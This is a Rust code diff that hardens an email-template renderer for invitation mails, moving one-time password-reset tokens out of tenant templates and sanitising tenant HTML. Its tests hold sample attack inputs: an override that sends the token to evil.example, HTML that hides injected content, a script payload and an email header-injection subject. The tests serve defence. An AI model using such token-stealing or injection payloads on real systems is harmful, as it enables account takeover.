@@ -27,6 +27,48 @@ pub struct Rendered {
     pub text: String,
 }
 
+/// A one-time link the server adds to a mail after rendering (never a template variable).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ActionLink {
+    pub label: &'static str,
+    pub url: String,
+}
+
+/// The action link of an event type in a locale, for a URL the server built; `None` for event
+/// types whose mail carries no link.
+pub fn action_link(event_type: &str, locale: &str, url: String) -> Option<ActionLink> {
+    let label = match (event_type, locale) {
+        (outbox::USER_INVITED, "zh-CN") => "设置密码",
+        (outbox::USER_INVITED, _) => "Set your password",
+        _ => return None,
+    };
+    Some(ActionLink { label, url })
+}
+
+/// Adds the action after the body: in text before the signature delimiter ("-- ") when there is
+/// one, else at the end; in HTML before `</body>` when there is one, else at the end.
+fn with_action(mut mail: Rendered, action: Option<&ActionLink>) -> Rendered {
+    let Some(action) = action else { return mail };
+    let text_block = format!("{}:\n{}\n", action.label, action.url);
+    mail.text = match mail.text.rfind("\n-- \n") {
+        Some(at) => format!("{}\n\n{text_block}{}", mail.text[..at].trim_end(), &mail.text[at..]),
+        None => format!("{}\n\n{text_block}", mail.text.trim_end()),
+    };
+    let url = handlebars::html_escape(&action.url);
+    let html_block = format!("<p><a href=\"{url}\">{}</a></p>\n<p style=\"font-size:smaller\">{url}</p>\n", handlebars::html_escape(action.label));
+    mail.html = match mail.html.to_ascii_lowercase().rfind("</body>") {
+        Some(at) => format!("{}{html_block}{}", &mail.html[..at], &mail.html[at..]),
+        None => format!("{}\n{html_block}", mail.html),
+    };
+    mail
+}
+
+/// A tenant's HTML as a safe fragment in our own document: no scripts, styles, comments or
+/// unclosed elements that could hide or restyle what the server adds after it.
+fn sanitized_document(tenant_html: &str) -> String {
+    format!("<!doctype html>\n<html><body>\n{}\n</body></html>\n", ammonia::clean(tenant_html))
+}
+
 /// (event type, locale, subject, body). The body becomes both the text and, escaped, the HTML.
 const BUILTIN: &[(&str, &str, &str, &str)] = &[
     (outbox::ACCOUNT_CREATED, "en", "AWS account {{data.accountName}} ({{data.accountId}}) created", "The AWS account {{data.accountName}} ({{data.accountId}}, {{data.email}}) was created in the organization of payer {{payerName}} ({{payerAccountId}})."),
@@ -45,8 +87,8 @@ const BUILTIN: &[(&str, &str, &str, &str)] = &[
     (outbox::POLICY_DETACHED, "zh-CN", "策略 {{data.policyName}} 已从 {{data.targetId}} 分离", "{{data.by}} 已将服务控制策略 {{data.policyName}}（{{data.policyId}}）从付款账号 {{payerName}} 组织中的 {{data.targetId}} 分离。"),
     (outbox::PAYER_CONNECTION_FAILED, "en", "Payer {{payerName}} cannot be reached", "Partner Billing could not assume the role of payer {{payerName}} ({{payerAccountId}}): {{data.reason}}"),
     (outbox::PAYER_CONNECTION_FAILED, "zh-CN", "无法连接付款账号 {{payerName}}", "Partner Billing 无法代入付款账号 {{payerName}}（{{payerAccountId}}）的角色：{{data.reason}}"),
-    (outbox::USER_INVITED, "en", "You have been invited to Partner Billing", "{{data.invitedBy}} invited you to Partner Billing. Set your password here: {{publicUrl}}/set-password?token={{data.token}}"),
-    (outbox::USER_INVITED, "zh-CN", "您已受邀加入 Partner Billing", "{{data.invitedBy}} 邀请您加入 Partner Billing。请在此设置密码：{{publicUrl}}/set-password?token={{data.token}}"),
+    (outbox::USER_INVITED, "en", "You have been invited to Partner Billing", "{{data.invitedBy}} invited you to Partner Billing. Set your password with the link below; it works once and expires in 72 hours."),
+    (outbox::USER_INVITED, "zh-CN", "您已受邀加入 Partner Billing", "{{data.invitedBy}} 邀请您加入 Partner Billing。请使用下方链接设置密码；该链接仅可使用一次，72 小时内有效。"),
     (outbox::PASSWORD_CHANGED, "en", "Your Partner Billing password was changed", "The password of {{data.email}} was changed. If this was not you, contact your administrator."),
     (outbox::PASSWORD_CHANGED, "zh-CN", "您的 Partner Billing 密码已更改", "{{data.email}} 的密码已更改。如非本人操作，请联系管理员。"),
     (outbox::SERVICE_NOTICE, "en", "{{data.subject}}", "{{data.body}}"),
@@ -112,25 +154,27 @@ pub fn init() -> AppResult<()> {
     COMPILED.as_ref().map(|_| ()).map_err(|e| AppError::internal(anyhow::anyhow!("built-in email template: {e}")))
 }
 
-/// Renders a built-in template.
-pub fn render_builtin(event_type: &str, locale: &str, ctx: &Value) -> AppResult<Rendered> {
+/// Renders a built-in template, then adds the action link, if any.
+pub fn render_builtin(event_type: &str, locale: &str, ctx: &Value, action: Option<&ActionLink>) -> AppResult<Rendered> {
     let c = COMPILED.as_ref().map_err(|e| AppError::internal(anyhow::anyhow!("built-in email template: {e}")))?;
     let name = format!("{event_type}/{locale}");
     let err = |e: handlebars::RenderError| AppError::internal(anyhow::anyhow!("rendering {name}: {e}"));
-    Ok(Rendered {
+    let mail = Rendered {
         subject: one_line(&c.plain.render(&format!("{name}/subject"), ctx).map_err(err)?),
         html: c.html.render(&format!("{name}/html"), ctx).map_err(err)?,
         text: c.plain.render(&format!("{name}/text"), ctx).map_err(err)?,
-    })
+    };
+    Ok(with_action(mail, action))
 }
 
-/// Compiles and renders a trio (a tenant override); the error names the part that failed.
-pub fn render_source(src: &Source, ctx: &Value) -> Result<Rendered, (&'static str, String)> {
+/// Compiles and renders a trio (a tenant override), sanitises its HTML and adds the action link;
+/// the error names the part that failed.
+pub fn render_source(src: &Source, ctx: &Value, action: Option<&ActionLink>) -> Result<Rendered, (&'static str, String)> {
     let (html, plain) = registries();
     let subject = plain.render_template(&src.subject, ctx).map_err(|e| ("subject", e.to_string()))?;
     let text = plain.render_template(&src.text, ctx).map_err(|e| ("text", e.to_string()))?;
     let html = html.render_template(&src.html, ctx).map_err(|e| ("html", e.to_string()))?;
-    Ok(Rendered { subject: one_line(&subject), html, text })
+    Ok(with_action(Rendered { subject: one_line(&subject), html: sanitized_document(&html), text }, action))
 }
 
 /// Checks an override: it must compile and render the sample data of its event type (so an
@@ -141,8 +185,12 @@ pub fn validate(event_type: &str, locale: &str, src: &Source) -> AppResult<Rende
             return Err(AppError::invalid(field, format!("must be 1 to {max} characters")));
         }
     }
-    render_source(src, &sample_context(event_type, locale)).map_err(|(field, e)| AppError::invalid(field, format!("does not render: {e}")))
+    let sample_action = action_link(event_type, locale, format!("{SAMPLE_PUBLIC_URL}/set-password?token=sample-one-time-token"));
+    render_source(src, &sample_context(event_type, locale), sample_action.as_ref())
+        .map_err(|(field, e)| AppError::invalid(field, format!("does not render: {e}")))
 }
+
+const SAMPLE_PUBLIC_URL: &str = "https://billing.example.com";
 
 /// Header folding would turn a newline in a subject into a header injection; keep one line.
 fn one_line(s: &str) -> String {
@@ -173,14 +221,14 @@ pub fn sample_context(event_type: &str, _locale: &str) -> Value {
         outbox::ACCOUNT_CLOSED => json!({ "accountId": "012345678901", "accountName": "Dev account", "email": "dev@example.com", "closedBy": "ops@partner.example" }),
         outbox::POLICY_ATTACHED | outbox::POLICY_DETACHED => json!({ "policyId": "p-0123abcd", "policyName": "Deny leaving", "targetId": "012345678901", "by": "ops@partner.example" }),
         outbox::PAYER_CONNECTION_FAILED => json!({ "reason": "AccessDenied" }),
-        outbox::USER_INVITED => json!({ "email": "new@partner.example", "invitedBy": "admin@partner.example", "token": "sample-token" }),
+        outbox::USER_INVITED => json!({ "email": "new@partner.example", "invitedBy": "admin@partner.example" }),
         outbox::PASSWORD_CHANGED => json!({ "email": "user@partner.example" }),
         outbox::SERVICE_NOTICE => json!({ "accountId": "012345678901", "accountName": "Dev account", "email": "dev@example.com", "subject": "Planned maintenance", "body": "We will rotate keys on Friday.", "by": "ops@partner.example" }),
         outbox::CONTRACT_CHANGED => json!({ "action": "updated", "contractId": "0190e1c2-0000-7000-8000-000000000001", "name": "Managed AWS 2027", "customerTenantId": "0190e1c2-0000-7000-8000-000000000002", "customerName": "Acme Corp", "status": "ACTIVE", "startDate": "2027-01-01", "endDate": "2027-12-31", "renewal": "FIXED_TERM", "currency": "USD", "invoicePrefix": "ACME", "billingEmail": "billing@acme.example", "contractChangeEmail": "contracts@acme.example", "changedBy": "admin@partner.example" }),
         outbox::WEBHOOK_DISABLED => json!({ "endpointId": "0190e1c2-0000-7000-8000-000000000000", "url": "https://hooks.example.com/pb", "failures": 10, "reason": "HTTP 500" }),
         _ => json!({}),
     };
-    let mut ctx = context(event_type, uuid::Uuid::nil(), chrono::Utc::now(), Some(("Example payer", "109876543210")), "Example partner", "https://billing.example.com", data);
+    let mut ctx = context(event_type, uuid::Uuid::nil(), chrono::Utc::now(), Some(("Example payer", "109876543210")), "Example partner", SAMPLE_PUBLIC_URL, data);
     ctx["brandingName"] = json!(crate::domain::tenant_settings::DEFAULT_NAME);
     ctx
 }
@@ -194,7 +242,7 @@ mod tests {
         init().unwrap();
         for event in mail_event_types() {
             for locale in crate::notify::LOCALES {
-                let r = render_builtin(event, locale, &sample_context(event, locale)).unwrap();
+                let r = render_builtin(event, locale, &sample_context(event, locale), None).unwrap();
                 assert!(!r.subject.is_empty() && r.text.contains("Partner Billing"), "{event}/{locale}");
                 assert!(builtin(event, locale).is_some());
             }
@@ -206,10 +254,44 @@ mod tests {
         let mut ctx = sample_context(outbox::SERVICE_NOTICE, "en");
         ctx["data"]["body"] = json!("<script>alert(1)</script> & more");
         ctx["data"]["subject"] = json!("Hi\r\nBcc: victim@example.com");
-        let r = render_builtin(outbox::SERVICE_NOTICE, "en", &ctx).unwrap();
+        let r = render_builtin(outbox::SERVICE_NOTICE, "en", &ctx, None).unwrap();
         assert!(r.html.contains("&lt;script&gt;") && !r.html.contains("<script>"));
         assert!(r.text.contains("<script>alert(1)</script> & more"));
         assert_eq!(r.subject, "Hi Bcc: victim@example.com");
+    }
+
+    #[test]
+    fn an_invitation_override_cannot_read_drop_or_redirect_the_set_password_link() {
+        // The attack: a customer admin's override sending the token to another host.
+        let attack = Source {
+            subject: "Welcome".into(),
+            html: "<a href=\"https://evil.example/?t={{data.token}}\">Set password</a>".into(),
+            text: "Go to https://evil.example/?t={{data.token}}".into(),
+        };
+        let refused = validate(outbox::USER_INVITED, "en", &attack);
+        assert!(matches!(refused, Err(AppError::Validation { .. })), "{refused:?}");
+        // Nor may it place the server's link: templates never see it.
+        let placed = Source { subject: "Welcome".into(), html: "<a href=\"https://evil.example/#{{action.url}}\">x</a>".into(), text: "{{publicUrl}}".into() };
+        assert!(validate(outbox::USER_INVITED, "en", &placed).is_err());
+        // An override that tries to hide what follows it: the link is still there, visible.
+        let hiding = Source {
+            subject: "Welcome".into(),
+            html: "<p>Hello</p><div style=\"display:none\"><!-- <script>x</script>".into(),
+            text: "Hello".into(),
+        };
+        let link = action_link(outbox::USER_INVITED, "en", "https://billing.partner.example/set-password?token=pbs_secret".into()).unwrap();
+        let r = render_source(&hiding, &sample_context(outbox::USER_INVITED, "en"), Some(&link)).unwrap();
+        assert!(r.text.ends_with("Set your password:\nhttps://billing.partner.example/set-password?token=pbs_secret\n"), "{}", r.text);
+        // handlebars' escaping writes `=` as `&#x3D;`, which HTML decodes back.
+        assert!(r.html.replace("&#x3D;", "=").contains("<a href=\"https://billing.partner.example/set-password?token=pbs_secret\">Set your password</a>"), "{}", r.html);
+        assert!(!r.html.contains("display:none") && !r.html.contains("<!--") && !r.html.contains("<script"), "{}", r.html);
+        // The context a template renders with holds no secret at all.
+        let ctx = sample_context(outbox::USER_INVITED, "en");
+        assert!(ctx["data"].get("token").is_none() && ctx.get("action").is_none());
+        // The built-in puts the link before its signature, in both locales.
+        let r = render_builtin(outbox::USER_INVITED, "zh-CN", &ctx, Some(&action_link(outbox::USER_INVITED, "zh-CN", "https://b.example/set-password?token=t".into()).unwrap())).unwrap();
+        let at_link = r.text.find("设置密码:\nhttps://b.example/set-password?token=t").unwrap();
+        assert!(at_link < r.text.find("\n-- \n").unwrap(), "{}", r.text);
     }
 
     #[test]
